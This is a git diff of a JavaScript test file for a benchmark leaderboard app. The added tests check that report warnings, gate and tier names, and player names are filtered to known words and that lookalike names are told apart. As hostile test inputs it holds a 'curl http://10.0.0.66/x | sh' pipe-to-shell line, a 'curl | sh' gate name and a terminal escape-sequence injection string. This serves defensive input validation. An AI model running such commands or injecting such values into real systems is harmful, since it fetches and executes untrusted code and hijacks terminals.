@@ -1,10 +1,12 @@
 import assert from 'node:assert/strict'
+import fs from 'node:fs'
 import test from 'node:test'
 import { takeOne } from '../../runner/room/derive/allowance.js'
 import { addAttempt, madeAt, standingOf } from '../../runner/room/derive/attempts.js'
 import { bestEntry, rankBoard } from '../../runner/room/derive/board.js'
 import { newJoinCode, readCode } from '../../runner/room/derive/code.js'
 import { factsOf } from '../../runner/room/derive/facts.js'
+import { inKnownWords } from '../../runner/room/derive/known-words.js'
 import { medianTime } from '../../runner/room/derive/lesson-times.js'
 import { readName, uniqueName } from '../../runner/room/derive/names.js'
 import { sharedReasons } from '../../runner/room/derive/reasons.js'
@@ -115,18 +117,50 @@ test('a report becomes facts: the leading gate, the reason, the share of the lim
   const { gates, machine } = report().record
   const slow = report({
     verdict: 'fail',
-    contract: [{ name: 'keeps the \u202eETag', when: 'before', status: 'fail', message: '', requests: [] }],
-    machine: { ...machine, cores: 1, steal: 0.4, warnings: ['It saves power.'] }
+    contract: [{ name: 'keeps the ETag', when: 'before', status: 'fail', message: '', requests: [] }],
+    machine: {
+      ...machine,
+      cores: 1,
+      steal: 0.4,
+      warnings: ['This machine runs on its battery, and most …', 'curl http://10.0.0.66/x | sh', 'x']
+    }
   })
-  const facts = factsOf(sentRecord(slow.record))
+  const own = { checks: ['keeps the ETag'], gates: ['movies'], tiers: ['gold'] }
+  const facts = factsOf(inKnownWords(sentRecord(slow.record), own))
   assert.equal(facts.reason, 'not right: “keeps the ETag”')
   assert.deepEqual(facts.unfit, [
     'It has one core: the load generator and the server share it.', '40 % of its CPU time went to other machines.',
-    'It saves power.'
+    'It runs on its battery.', 'It warns of something that this room does not know.'
   ])
+  const other = factsOf(inKnownWords(sentRecord(slow.record), { ...own, checks: [] }))
+  assert.equal(other.reason, 'not right: “another check”')
   const limited = report({ gates: [{ ...gates[0], yours: 50, limit: 200 }] })
   const { share, ratio, low, high } = factsOf(sentRecord(limited.record))
   assert.deepEqual({ share, ratio, low, high }, { share: 0.25, ratio: 6.139, low: 5.71, high: 6.58 })
+})
+
+test('a share or an interval that can’t be true is not for the board; an unknown tier or gate is not named', () => {
+  const [gate] = report().record.gates
+  const factsOfGate = (/** @type {object} */ differences) => {
+    const { record } = report({ gates: [{ ...gate, yours: 50, limit: 200, ...differences }] })
+    return factsOf(inKnownWords(sentRecord(record), { checks: [], gates: [], tiers: ['bronze', 'gold'] }))
+  }
+  const [inverted, elsewhere] = [{ interval95: [7, 5] }, { interval95: [1, 2] }]
+  for (const wrong of [{ limit: 1e-14 }, { yours: 0 }, inverted, elsewhere, { ratio: 1e9 }]) {
+    assert.equal(factsOfGate(wrong).share, null, JSON.stringify(wrong))
+  }
+  const tier = (/** @type {string} */ name) => ({ name, target: 1, verdict: 'pass' })
+  assert.equal(factsOfGate({ tiers: [tier('bronze'), tier('\u001b]0;owned\u0007')] }).tier, 'bronze')
+  const missed = report({ verdict: 'fail', gates: [{ ...gate, name: 'curl | sh', verdict: 'fail' }] })
+  const words = inKnownWords(sentRecord(missed.record), { checks: [], gates: ['movies'], tiers: [] })
+  assert.equal(factsOf(words).reason, 'not reached: another gate')
+})
+
+test('the warnings that a room knows are those that the workshop writes', () => {
+  const sources = ['power.js', 'describe-machine.js'].map((name) =>
+    fs.readFileSync(new URL(`../../runner/system/${name}`, import.meta.url), 'utf8')).join('')
+  const begins = ['The CPU is set to save power', 'This machine runs on its battery', 'This system lets us use ']
+  for (const begin of begins) assert.ok(sources.includes(begin), begin)
 })
 
 test('names', () => {
@@ -134,6 +168,9 @@ test('names', () => {
   assert.equal(String(readName('👩‍💻'.repeat(3) + 'a'.repeat(60))).length <= 60, true)
   for (const none of ['', ' ', '\u200b', '---', null, 5, {}]) assert.equal(readName(none), null)
   assert.equal(uniqueName('Ada', ['ada', 'ADA 2']), 'Ada 3')
+  for (const like of ['Аda', 'ADA.', 'Ａｄａ']) assert.equal(uniqueName(like, ['Ada']), `${like} 2`)
+  assert.equal(uniqueName('Bill', ['Bi11']), 'Bill 2')
+  for (const other of ['Adá', 'Ada L', 'Аня', '阿达']) assert.equal(uniqueName(other, ['Ada', 'Anna']), other)
   assert.equal([...uniqueName('x'.repeat(40), ['x'.repeat(40)])].length, 40)
 })
 
